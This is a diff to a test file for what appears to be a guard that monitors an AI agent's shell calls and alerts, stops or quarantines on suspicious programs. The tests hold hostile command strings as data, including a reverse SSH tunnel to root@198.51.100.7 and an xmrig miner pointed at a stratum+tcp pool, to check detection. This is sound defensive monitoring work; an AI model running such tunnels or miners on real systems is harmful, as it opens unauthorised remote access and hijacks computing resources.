@@ -14,7 +14,7 @@ describe("what a call says and does to protected paths", () => {
     const states = [present(test.path), present(test.path, "b"), present(test.path, "b")];
     const scripts = ["cd /tmp", "ssh -R 1:a:1 b; echo > /work/test.sh", "rm /work/test.sh"];
     const monitor = new EpisodeMonitor(instance, [states[0]!]);
-    const guard = guardWith({}, { instance, fingerprints: [states[0]!] });
+    const guard = guardWith({}, { instance, fingerprints: [states[0]!], rules: [] });
     for (const [chunk, script] of scripts.entries()) {
       const call = bash(script, `call_${chunk}`);
       const began = guard.beginCall(chunk, call, START + chunk * 100);
@@ -88,6 +88,66 @@ describe("one attempt", () => {
     expect(guard.windUp([], START + 200).events).toMatchObject([
       { type: "guard.totals", alerts: [{ rule: "metadata-access", chunk: 0, records: 2 }] },
     ]);
+  });
+});
+
+describe("a rule over programs whose act a call's text says", () => {
+  const tunnel = "ssh -fN -R 2222:localhost:22 root@198.51.100.7";
+  const intended = { rule: "tunnel-program", source: "command", attribution: "certain", chunk: 0 };
+  const execOf = (command: string) =>
+    record(20, "process.exec", { source: "tracefs", process: processOf([[41, 10, command]]) });
+
+  it.each(["record", "warn", "stop", "quarantine"] as const)(
+    "is an alert before the call runs, and the decision where it asks to %s",
+    (response) => {
+      const guard = guardWith({ responses: { "tunnel-program": response } });
+      const { alerts, decisions } = guard.beginCall(0, bash(tunnel), START);
+      expect(alerts).toMatchObject([{ ...intended, evidence: { command: tunnel } }]);
+      expect(decisions.map((decision) => decision.response)).toEqual(response === "record" ? [] : [response]);
+    },
+  );
+
+  it.each([
+    ["with its arguments", tunnel],
+    ["without its arguments", "/usr/bin/ssh"],
+  ])("is one alert, also when the program is told %s, and what was seen of it is kept", (_, command) => {
+    const guard = guardWith({ responses: { "tunnel-program": "record" } });
+    const call = bash(tunnel, "call_0");
+    const { alerts, events } = guard.beginCall(0, call, START);
+    expect(events).toMatchObject([{ type: "alert", alert: intended }]);
+    for (let i = 0; i < 200; i++) guard.observe(execOf("make"));
+    const seen = guard.observe(execOf(command));
+    expect(seen.alerts).toEqual([]);
+    if (command === tunnel) expect(seen.events).toMatchObject([{ type: "telemetry", chunk: 0 }]);
+    const wire = guard.observe(
+      record(30, "net.capture", { net: { flow: "f", rule: "default", class: "ssh" }, process: { pid: 41 } }),
+    );
+    expect(wire.alerts).toMatchObject([{ rule: "tunnel-ssh", source: "telemetry" }]);
+    expect(causeKey(wire.alerts[0]!)).toBe(causeKey(alerts[0]!));
+  });
+
+  it.each([
+    `echo "${tunnel}; xmrig --donate-level 1" > notes.md`,
+    `printf '%s\\n' 'xmrig -o stratum+tcp://pool:3333' >> README`,
+    `cat > run.sh <<'END'\n${tunnel}\nEND`,
+    "export POOL=stratum+tcp://pool:3333; [ -n stratum+tcp://pool ]",
+    "grep -rn stratum+tcp:// src",
+    "command -v chisel",
+  ])("is none where the text is only said, written or looked for: %s", (script) => {
+    expect(guardWith().beginCall(0, bash(script), START).alerts).toEqual([]);
+  });
+
+  it.each(["/bin/echo stratum+tcp://pool:3333", "xargs echo --donate-level", "sudo ./xmrig -c a"])(
+    "is one where a program is started all the same: %s",
+    (script) => {
+      const { alerts } = guardWith().beginCall(0, bash(script), START);
+      expect(alerts.map(({ rule }) => rule)).toEqual(["mining-program"]);
+    },
+  );
+
+  it("is none where the instance allows it", () => {
+    const guard = guardWith({ allowRules: ["tunnel-program"] });
+    expect(guard.beginCall(0, bash(tunnel), START)).toMatchObject({ alerts: [], decisions: [] });
   });
 });
 
